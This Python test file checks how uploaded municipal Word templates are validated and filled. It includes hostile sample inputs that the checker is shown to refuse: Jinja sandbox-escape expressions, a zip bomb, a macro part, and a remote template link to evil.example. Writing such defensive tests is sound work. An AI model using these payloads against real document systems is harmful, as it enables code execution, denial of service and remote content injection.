"""What a municipality's own template may be, and that the shipped ones are."""

import re
import zipfile
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from docx import Document

from data.policies import municipalities, policy_of
from rules.document_fields import ALWAYS, FIELDS, KINDS
from tasks.documents.made import SHIPPED, UnknownTemplate, named
from tasks.documents.word import fill
from tasks.documents.word_check import BadTemplate, check_template
from tasks.documents.word_package import MOST_BYTES
from tasks.words.document_words import CONTRACT_ITEMS
from tasks.words.language import translator
from tests.word import example, saved, text_of, with_part, word

TEMPLATES = sorted(SHIPPED.glob("*/*.docx"))
ON = date(2024, 3, 1)
NAME = 'Zoë Ñandú-Łukaszewicz <Åse & Þór> 王小明 אבג 😀 O\'Brien "x" {{ family }}'


def faults(content: bytes, kind: str = "contract_network") -> str:
    with pytest.raises(BadTemplate) as refused:
        check_template(content, kind)
    return str(refused.value)


def test_every_kind_of_document_comes_in_a_language_and_every_file_is_of_a_kind() -> None:
    assert {path.stem for path in TEMPLATES} == set(KINDS)


@pytest.mark.parametrize("path", TEMPLATES, ids=lambda path: f"{path.parent.name}-{path.stem}")
def test_a_shipped_template_is_in_order_and_says_all_it_is_given(path: Path) -> None:
    check_template(path.read_bytes(), path.stem)
    said = text_of(fill(path.read_bytes(), example(path.stem, "Ærø & Ås"), language=path.parent.name, on=ON))
    assert "Ærø & Ås" in said
    assert "{" not in said
    assert "%}" not in said
    assert all(f"Ærø & Ås {part}" in said for part in re.findall(r"\w+\.(\w+)", " ".join(FIELDS[path.stem])))


@pytest.mark.parametrize(
    "content",
    [
        word("Familien {{ familyname }}"),
        word(header="{{ familyname }}"),
        word(footer="{{ familyname }}"),
        word("{% if law %}{{ familyname }}{% endif %}"),
        word("{% if familyname %}ja{% endif %}"),
        word("{%p for item in items %}", "{{ familyname }}", "{%p endfor %}"),
    ],
    ids=["body", "header", "footer", "in an if", "as a condition", "in a loop"],
)
def test_an_unknown_field_is_refused_by_its_name_wherever_it_stands(content: bytes) -> None:
    assert "unknown field familyname for contract_network; did you mean family_name?" in faults(content)


def test_a_field_that_word_has_cut_into_pieces_is_still_found() -> None:
    made = Document()
    paragraph = made.add_paragraph("Familien {{ fam")
    for piece in ("ily", "n", "ame }}"):
        paragraph.add_run(piece).bold = True
    assert "unknown field familyname" in faults(saved(made))
    made.add_table(1, 1).cell(0, 0).paragraphs[0].add_run("{{ child_nam }}")
    assert "unknown field child_nam " in faults(saved(made))


def test_an_unknown_part_of_a_row_is_refused_by_its_name() -> None:
    said = faults(word("{%p for row in items %}", "{{ row.titel }}", "{%p endfor %}"))
    assert "unknown field row.titel; a row has text, title" in said


def test_all_faults_are_said_at_once() -> None:
    said = faults(word("{{ a }}", "{{ b }}", "{{ items }}"))
    assert [part in said for part in ("unknown field a ", "unknown field b ", "items is a list")] == [True] * 3


@pytest.mark.parametrize(
    "expression",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ family_name.__class__ }}",
        "{{ family_name.upper() }}",
        "{{ family_name|attr('x') }}",
        "{{ items[0] }}",
        "{{ cycler }}",
        "{{ 9**9**9 }}",
        "{% for n in 'abc' %}{{ n }}{% endfor %}",
        "{% for a in items %}{% for b in items %}{{ b.text }}{% endfor %}{% endfor %}",
        "{% include 'x' %}",
        "{% import 'x' as x %}",
        "{% set x = 1 %}",
        "{% macro x() %}{% endmacro %}",
    ],
)
def test_anything_but_fields_if_and_for_is_refused(expression: str) -> None:
    assert faults(word(expression))


@pytest.mark.parametrize(
    ("paragraph", "said"),
    [
        ("Hej {{ family name }}", 'in "Hej {{ family name }}"'),
        ("Slut {% endfor %}", 'in "Slut {% endfor %}"'),
        ("{% iff law %}x{% endif %}", "unknown tag 'iff'"),
        ("Navn: { { family_name } }", "looks like a field"),
    ],
)
def test_a_slip_of_the_pen_is_said_with_its_paragraph(paragraph: str, said: str) -> None:
    assert said in faults(word("Først", paragraph, "Sidst"))


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"hej", "isn't a Word document"),
        (b"", "isn't a Word document"),
        (with_part(word("x"), "word/document.xml", b"<w:document"), "isn't a Word document"),
        (with_part(word("x"), "word/vbaProject.bin", b"x"), "macros"),
        (b"\0" * (MOST_BYTES + 1), "larger than 5 MB"),
        (with_part(word("x"), "word/media/bomb", b"\0" * 60_000_000), "unpacked"),
        (
            with_part(
                word("x"),
                "word/_rels/settings.xml.rels",
                b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t"'
                b' TargetMode="External"/></Relationships>',
            ),
            "from outside",
        ),
    ],
    ids=["text", "empty", "broken", "macros", "large", "bomb", "outside"],
)
def test_a_file_that_is_no_plain_word_document_is_refused(content: bytes, said: str) -> None:
    assert said in faults(content)


def test_a_link_may_stay() -> None:
    made = Document()
    made.part.relate_to(
        "https://kommune.example",
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
        is_external=True,
    )
    made.add_paragraph("{{ family_name }}")
    check_template(saved(made), "contract_network")


def test_an_unknown_template_is_refused_with_the_known_ones() -> None:
    with pytest.raises(UnknownTemplate, match=r"contract_netwrk.*contract_network"):
        named("contract_netwrk")


def test_names_keep_every_kind_of_letter() -> None:
    said = text_of(fill(word("Navn: {{ family_name }}."), {"family_name": NAME}, language="da", on=ON))
    assert f"Navn: {NAME}." in said.replace("&#39;", "'").replace("&#34;", '"')


def test_what_no_word_file_may_hold_is_left_out() -> None:
    said = text_of(fill(word("{{ family_name }}"), {"family_name": "a\x00\x07b\ud800c\r\nd"}, language="da", on=ON))
    assert "abc\nd" in said


def test_a_text_of_one_megabyte_arrives_whole() -> None:
    long = "Æble <grød> & æg.\n" * 60_000
    filled = fill(word("{{ family_name }}"), {"family_name": long}, language="da", on=ON)
    assert long in text_of(filled)
    Document(BytesIO(filled))


def test_days_and_answers_are_written_as_the_language_writes_them() -> None:
    context = {"family_name": ON, "child_name": True, "law": None}
    for language, expected in (("da", "1. marts 2024 ja []"), ("nb", "1. mars 2024 ja []")):
        filled = fill(word("{{ family_name }} {{ child_name }} [{{ law }}]"), context, language=language, on=ON)
        assert expected in text_of(filled)


def test_the_same_contents_give_the_same_bytes_without_a_trace_of_when_or_who() -> None:
    template = Document()
    template.core_properties.author = "Skriver Skriversen"
    template.add_paragraph("{{ family_name }}")
    made = [fill(saved(template), {"family_name": "x"}, language="da", on=ON) for _ in range(2)]
    assert made[0] == made[1]
    with zipfile.ZipFile(BytesIO(made[0])) as packed:
        assert {part.date_time for part in packed.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = packed.read("docProps/core.xml").decode()
    assert "Skriver" not in core
    assert core.count("2024-03-01T00:00:00Z") == 2


def test_every_item_of_every_contract_has_its_heading_in_the_municipality_s_language() -> None:
    items = {
        (policy_of(key).language, item)
        for key in municipalities()
        for name, dated in policy_of(key).values.items()
        if name.startswith("contract.items.")
        for row in dated
        for item in row.value
    }
    assert items
    unsaid = [item for _, item in items if item not in CONTRACT_ITEMS]
    assert unsaid == []
    same = [
        item for language, item in items if translator(language).gettext(CONTRACT_ITEMS[item]) == CONTRACT_ITEMS[item]
    ]
    assert same == []


def test_the_fields_in_the_guide_are_the_fields_there_are() -> None:
    guide = (Path(__file__).parents[3] / "docs" / "documents.md").read_text(encoding="utf-8")
    parts = re.findall(r"^### `(\w+)`\n(.*?)(?=^###|\Z)", guide, re.MULTILINE | re.DOTALL)
    assert {kind: re.findall(r"^\| `([\w.]+)` \| (.+) \|$", part, re.MULTILINE) for kind, part in parts} == {
        kind: list(fields.items()) for kind, fields in KINDS.items()
    }
    assert all(f"| `{field}` | {meaning} |" in guide for field, meaning in ALWAYS.items())
